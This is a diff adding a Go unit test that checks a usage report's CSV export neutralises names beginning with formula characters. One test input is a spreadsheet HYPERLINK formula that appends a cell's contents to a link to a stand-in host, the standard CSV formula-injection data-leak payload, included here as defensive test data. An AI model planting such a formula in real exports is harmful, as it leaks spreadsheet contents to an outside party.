@@ -104,6 +104,24 @@ func TestUsageIsExportedToTheLastUnit(t *testing.T) {
 	}
 }
 
+// A spreadsheet opens the file, and what somebody has called a key must not reckon in it.
+func TestNoNameIsAFormulaInASpreadsheet(t *testing.T) {
+	for name, want := range map[string]string{
+		`=HYPERLINK("http://x.example/?"&A1)`: `'=HYPERLINK("http://x.example/?"&A1)`, "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1",
+		"build": "build", "a=1": "a=1", "": "", "'=1": "'=1", "ünter": "ünter",
+	} {
+		var b bytes.Buffer
+		u := usageView{Rows: []usageRow{{Date: "2026-11-30", AccountName: name, KeyName: name, Row: quota.Row{Cost: -1}}}}
+		if err := u.csv(&b); err != nil {
+			t.Fatal(err)
+		}
+		lines, err := csv.NewReader(&b).ReadAll()
+		if err != nil || len(lines) != 2 || lines[1][1] != want || lines[1][4] != want || strings.HasPrefix(lines[1][11], "'") {
+			t.Errorf("%q: %q, %v", name, lines, err)
+		}
+	}
+}
+
 func TestUsageIsShownWhileTheCatalogueIsBroken(t *testing.T) {
 	for currency, told := range map[string]bool{"CHF": true, "": false} {
 		state, _ := used(t, currency)
